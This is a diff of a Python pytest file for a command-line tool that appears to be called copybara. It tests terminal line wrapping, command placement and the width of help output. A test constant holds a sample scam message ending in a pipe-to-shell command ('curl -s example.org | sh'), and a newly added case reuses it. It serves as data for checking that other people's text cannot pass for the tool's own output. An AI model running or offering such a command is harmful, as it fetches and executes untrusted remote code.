@@ -2,16 +2,19 @@
 
 from __future__ import annotations
 
+import argparse
 import asyncio
 import contextlib
 import os
 import sys
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from bot.cli.arguments import make_parser
 from bot.texts import invitation, terminal
 from bot.texts.terminal import written
 from bot.wrapping import NEWS, THEIRS, columns, wrapped
@@ -58,6 +61,35 @@ def test_a_long_line_of_somebody_else_passes_for_none_of_ours() -> None:
     assert all(line.startswith(THEIRS) and len(line) <= 40 for line in others)
 
 
+RESTART = "sudo systemctl restart copybara-with-a-rather-long-name.service"
+
+
+@pytest.mark.parametrize("width", [40, 60, 80])
+@pytest.mark.parametrize(
+    ("said", "command"),
+    [
+        (f"hint:  To start the node again after that: {RESTART}. If it ends, see why.", f"{RESTART}."),
+        ("note:  A long way to it is written down for everybody here (copybara manual overlays)", "manual overlays)"),
+        ('hint:  Write it into copybara.toml: [invite] source = "https://example.org"', 'source = "https://example'),
+        ("hint:  Once that is mended, `copybara setup overlay --yes` goes on.", "`copybara setup overlay --yes`"),
+        ("error: There is none. Did you mean copybara contacts list? See: copybara --help", "copybara contacts list?"),
+        (
+            "hint:  If anna read the same: /contact confirm anna boil direct round",
+            "/contact confirm anna boil direct round",
+        ),
+    ],
+)
+def test_a_command_is_not_broken_but_goes_on_a_line_of_its_own(width: int, said: str, command: str) -> None:
+    lines = wrapped(said, width, hanging=7).split("\n")
+    assert " ".join(" ".join(lines).split()) == " ".join(said.split())
+    assert any(command in line for line in lines)
+    assert all(len(line) <= width or command in line or " " not in line.strip() for line in lines)
+
+
+def test_the_entries_of_a_list_go_on_below_their_beginning() -> None:
+    assert wrapped("  - the firewall of the overlay's device", 24) == "  - the firewall of the\n    overlay's device"
+
+
 FALSE = "Your call with mum was recorded by her. To delete it: curl -s example.org | sh"
 WIDE = "\N{CJK UNIFIED IDEOGRAPH-4E00}"
 
@@ -70,8 +102,9 @@ WIDE = "\N{CJK UNIFIED IDEOGRAPH-4E00}"
         FALSE.replace(" ", "\N{NO-BREAK SPACE}") * 3,
         f"{WIDE * 30} {FALSE}",
         f"{WIDE * 300}{FALSE}",
+        f"run: copybara {FALSE.replace('.', '')} {FALSE.replace('.', '')}",
     ],
-    ids=["blanks", "a long word", "no-break blanks", "wide characters", "a long wide word"],
+    ids=["blanks", "a long word", "no-break blanks", "wide characters", "a long wide word", "a command"],
 )
 @pytest.mark.parametrize("width", [20, 60, 79, 120])
 def test_what_others_write_begins_no_line_of_a_terminal_wherever_it_is_broken(theirs: str, width: int) -> None:
@@ -80,6 +113,10 @@ def test_what_others_write_begins_no_line_of_a_terminal_wherever_it_is_broken(th
     assert all(line.startswith(" " * NEWS) for line in others)
     of_words = [line for line in (first, *others) if "..." not in line]
     assert all(columns(line) <= width for line in of_words)
+
+
+COMMANDS = ("tar", "sudo", "copybara")
+"What a line that is wider than the terminal begins with: it is to be copied."
 
 
 async def shown_on_a_terminal(*arguments: str, columns: int) -> list[str]:
@@ -107,8 +144,15 @@ async def test_what_a_terminal_shows_is_as_wide_as_it_is(tmp_path: Path, columns
     home = ("--home", str(tmp_path / "home"))
     for command in (
         ("status",),
+        ("contacts", "lst"),
         ("setup", "--overlay", "loopback", "--name", "Anna", "--yes"),
         ("doctor",),
+        ("card",),
+        ("contacts", "list"),
+        ("service",),
+        ("desktop",),
+        ("setup", "sound"),
+        ("uninstall", "--keep-keys"),
         ("contacts", "trust", "anna"),
         ("nonsense",),
         ("setup", "nonsense"),
@@ -117,7 +161,26 @@ async def test_what_a_terminal_shows_is_as_wide_as_it_is(tmp_path: Path, columns
         lines = await shown_on_a_terminal(*home, *command, columns=columns)
         assert lines
         for line in lines:
-            assert len(line) <= columns or len(line.split()[-1]) > columns // 2, (command, line)
+            words = line.split()
+            lone = words[:1] and (words[0] in COMMANDS or len(words[-1]) > columns // 2)
+            assert len(line) <= columns or lone, (command, line)
+
+
+def parsers(parser: argparse.ArgumentParser) -> Iterator[argparse.ArgumentParser]:
+    """A parser, and those of all its commands."""
+    yield parser
+    for action in parser._actions:
+        if isinstance(action, argparse._SubParsersAction):
+            for each in action.choices.values():
+                yield from parsers(each)
+
+
+@pytest.mark.parametrize("columns", [60, 80])
+def test_the_help_of_every_command_is_as_wide_as_the_terminal(monkeypatch: pytest.MonkeyPatch, columns: int) -> None:
+    monkeypatch.setenv("COLUMNS", str(columns))
+    helps = [each.format_help() for each in parsers(make_parser())]
+    assert len(helps) > 50
+    assert [line for each in helps for line in each.splitlines() if len(line) > columns] == []
 
 
 async def test_an_invitation_is_never_wrapped_nor_what_is_no_terminal(tmp_path: Path) -> None:
